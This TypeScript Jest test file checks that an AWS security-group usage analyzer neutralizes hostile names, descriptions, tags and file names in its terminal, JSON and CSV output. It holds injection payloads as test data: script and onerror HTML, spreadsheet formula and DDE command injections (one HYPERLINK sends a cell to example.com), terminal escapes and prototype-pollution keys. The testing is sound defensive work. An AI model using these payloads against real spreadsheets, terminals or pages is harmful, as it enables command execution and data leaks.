import { describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { UsageReport } from '../../../shared/reports/schema.ts';
import { KEEP_TAG } from '../../../shared/verdicts/judge.ts';
import { awsRule } from '../../shared/inventory/aws-shorthand.ts';
import { runMain } from './program.ts';
import { scratch, writtenFor } from './scratch.ts';
import { INVENTORY, logOf, recordLine } from './small-account.ts';

const folder = scratch();

/** What somebody may have typed as a name, a description or a tag, and what a spreadsheet must find instead. */
const HOSTILE: readonly (readonly [why: string, text: string, cell?: string])[] = [
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a formula', '=HYPERLINK("https://example.com/?"&A1,"click")', `'=HYPERLINK("https://example.com/?"&A1,"click")`],
  ['a command', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['a formula after blanks', '  @SUM(1+1)', "'  @SUM(1+1)"],
  ['a formula after a right-to-left mark', '\u200f+1', "'\u200f+1"],
  ['a formula for who splits at semicolons', 'web;=1+1', "web;'=1+1"],
  ['quotes, commas and line ends', 'a "quoted", text\r\nin\nlines'],
  ['escape sequences', '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u009b2J'],
  ['a carriage return that hides the line', 'active\rsgr-other'],
  ['characters deleted again', 'abc\b\b\bxyz\u007f'],
  ['a null', 'a\u0000b'],
  ['text from right to left', 'safe \u202eelats\u202c \u2067x\u2069'],
  ['line separators of Unicode', 'a\u2028b\u2029c\u0085d'],
  ['invisible characters', 'a\u200b\ufeffb\u{e0041}'],
  ['255 characters', 'x'.repeat(255)],
  ['emoji, one of several parts', '🔥🚒 👩‍👩‍👧 ✂️'],
  ['a lone half of a pair', '\ud83d', '\ufffd'],
  ['a name of every object', '__proto__'],
  ['another one', 'constructor'],
  ['format directives', '%s %d %n {0} $& $1'],
];

const ruleId = (i: number): string => `sgr-${String(i).padStart(2, '0')}`;

async function analyzed(files: Record<string, unknown>): Promise<{ stdout: string; stderr: string; status: unknown }> {
  await folder.write({ ...INVENTORY, 'logs/a.log': logOf(recordLine(1)), ...files });
  const paths = ['inventory', 'logs', 'out'].map((name) => folder.path(name));
  return runMain(['analyze', '--inventory', paths[0]!, '--logs', paths[1]!, '--out', paths[2]!]);
}

/** Nothing but text in lines: what a terminal shows as it is. */
function expectPlain(text: string): void {
  expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
}

describe('names, descriptions and tags of others', () => {
  const texts = HOSTILE.map(([, text]) => text);
  const groups = texts.map((GroupName, i) => ({
    GroupId: `sg-${i}`,
    GroupName,
    VpcId: 'vpc-1',
    Description: GroupName,
  }));
  // Each text is a description; of every second rule also a tag that keeps it, and a peer that is none of the others.
  const rules = texts.map((text, i) =>
    awsRule('in tcp 443', {
      SecurityGroupRuleId: ruleId(i),
      GroupId: `sg-${i}`,
      Description: text,
      ...(i % 2 === 0 ? { Tags: [{ Key: KEEP_TAG, Value: text }], CidrIpv4: '10.0.0.0/8' } : { CidrIpv4: text }),
    }),
  );
  const files = {
    'inventory/security-groups.json': { SecurityGroups: groups },
    'inventory/security-group-rules.json': { SecurityGroupRules: rules },
  };

  test('do nothing to the terminal, and each rule stays on its lines', async () => {
    const run = await analyzed(files);
    expect([run.status, run.stderr]).toEqual([0, '']);
    expectPlain(run.stdout);
    const listed = [...run.stdout.matchAll(/\((sgr-\d\d)\s+of\s+sg-\d+\)$/gm)].map(([, id]) => id);
    const rules = texts.flatMap((_, i) => (i % 2 === 1 ? [ruleId(i)] : [])).sort(byGroup);
    expect(listed).toEqual(rules.slice(0, 5));
    expect(run.stdout).toContain(`… and ${String(rules.length - 5)} more notObserved`);
    const list = run.stdout.split('\n\n').find((block) => block.startsWith('notObserved'))!;
    expect(list.split('\n').every((line) => /^(?:notObserved {1}| {12})/.test(line))).toBe(true);
  });

  test('stand in usage.json as they are', async () => {
    await analyzed(files);
    const report = JSON.parse(await folder.read('out/usage.json')) as UsageReport;
    for (const [i, text] of texts.entries()) {
      const rule = report.rules.find((one) => one.ruleId === ruleId(i));
      expect(rule).toMatchObject({ groupName: text, description: text });
      if (i % 2 === 0) expect(rule).toMatchObject({ verdict: { kind: 'exempt', reason: text, until: null } });
      else expect(rule).toMatchObject({ peer: { type: 'unknown', value: text }, verdict: { reason: 'unmatchable' } });
    }
  });

  test('stand in usage.csv, one record a rule, and become no formulas', async () => {
    await analyzed(files);
    const csv = await folder.read('out/usage.csv');
    const rows = parse<Record<string, string>>(csv, { columns: true, record_delimiter: '\r\n' });
    expect(rows.map((row) => row.rule_id)).toEqual(texts.map((_, i) => ruleId(i)).toSorted(byGroup));
    for (const [i, [, text, cell = text]] of HOSTILE.entries()) {
      const row = rows.find((one) => one.rule_id === ruleId(i))!;
      expect([row.sg_name, row.description]).toEqual([cell, cell]);
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[\s\p{C}]*[=+@]|^[\s\p{C}]*-(?!1$)/u);
    }
  });

  /** Groups are ordered as text: sg-1, sg-10, sg-11, sg-2. */
  function byGroup(a: string, b: string): number {
    const key = (id: string): string => `sg-${Number(id.slice(4))}`;
    return key(a) < key(b) ? -1 : 1;
  }

  test('as ids too: those that are none are refused in one line, and names of the language itself do no harm', async () => {
    const inventoryOf = (groupId: string) => ({
      'inventory/security-groups.json': { SecurityGroups: [{ GroupId: groupId, GroupName: '', VpcId: 'constructor' }] },
      'inventory/security-group-rules.json': {
        SecurityGroupRules: [
          awsRule('in tcp 443 10.0.0.0/8', { SecurityGroupRuleId: 'valueOf', GroupId: groupId }),
          awsRule('in tcp 443 10.0.0.0/8', { SecurityGroupRuleId: 'hasOwnProperty', GroupId: 'toString' }),
        ],
      },
    });
    const refused = await analyzed(inventoryOf('\u001b[2J=1+1\n__proto__'));
    expect([refused.status, refused.stdout]).toEqual([1, '']);
    expect(refused.stderr).toBe(
      'stale-sg: security-groups.json: SecurityGroups[0].GroupId: expected an id (at most 64 letters, digits, "-" and "_"), ' +
        'found "\\u001b[2J=1+1\\n__proto__"\n',
    );
    const run = await analyzed(inventoryOf('constructor'));
    expect([run.status, run.stderr]).toEqual([0, '']);
    expectPlain(run.stdout);
    const { rules } = JSON.parse(await folder.read('out/usage.json')) as UsageReport;
    expect(rules.map((rule) => [rule.groupId, rule.ruleId, rule.usedTimes])).toEqual([
      ['constructor', 'valueOf', 0],
      ['toString', 'hasOwnProperty', 0],
    ]);
  });
});

describe('file names of others', () => {
  const name = 'a\n    at evil \u001b[31m\u202e\r<b>.log';

  test('in a failure: still one line', async () => {
    const run = await analyzed({ [`logs/${name}`]: 'no log' });
    expect([run.status, run.stdout]).toEqual([1, '']);
    expect(run.stderr).toMatch(/^stale-sg: \P{C}*a\? {4}at evil \?\[31m\?\?<b>\.log: not a VPC flow log: \P{C}*\n$/u);
  });

  test('of an inventory, in a failure: still one line', async () => {
    const run = await analyzed({ 'inventory/vpcs.\u001b[31m\n.json': 'no JSON' });
    expect([run.status, run.stdout]).toEqual([1, '']);
    expect(run.stderr).toMatch(/^stale-sg: "vpcs\.\\u001b\[31m\\n\.json": \P{C}*\n$/u);
  });

  test('in a note: still one line, and the name itself in usage.json', async () => {
    const run = await analyzed({ [`logs/${name}`]: logOf('\u001b[31m cut', recordLine(1)) });
    expect([run.status, run.stderr]).toEqual([0, '']);
    expectPlain(run.stdout);
    expect(run.stdout).toMatch(
      /^Note +1 line could not be read, the first:\s[^]*<b>\.log:2:\s+2\s+fields\s+instead\s+of\s+14$/m,
    );
    const { malformedSamples } = JSON.parse(await folder.read('out/usage.json')) as UsageReport;
    expect(malformedSamples).toEqual([
      { file: folder.path(`logs/${name}`), line: 2, reason: '2 fields instead of 14' },
    ]);
  });

  test('of the folder that is written into', async () => {
    await folder.write({ ...INVENTORY, 'a.log': logOf(recordLine(1)) });
    const out = folder.path('out \u001b[31m\n');
    const run = await runMain([
      'analyze',
      '--inventory',
      folder.path('inventory'),
      '--logs',
      folder.path('a.log'),
      '--out',
      out,
    ]);
    expect([run.status, run.stderr]).toEqual([0, '']);
    expectPlain(run.stdout);
    expect(await folder.filesIn('out \u001b[31m\n')).toEqual(writtenFor('2026-01-12'));
  });
});

test('what a log line says is quoted where it is shown', async () => {
  const line = recordLine(2).replace('ACCEPT', '\u001b[31m\u202eACCEPT\u009b');
  const run = await analyzed({ 'logs/b.log': logOf(line, recordLine(3)) });
  expect([run.status, run.stderr]).toEqual([0, '']);
  expectPlain(run.stdout);
  expect(run.stdout).toMatch(/b\.log:2:\s+action "\[31m.*ACCEPT.*"\s+is neither ACCEPT nor REJECT$/m);
});
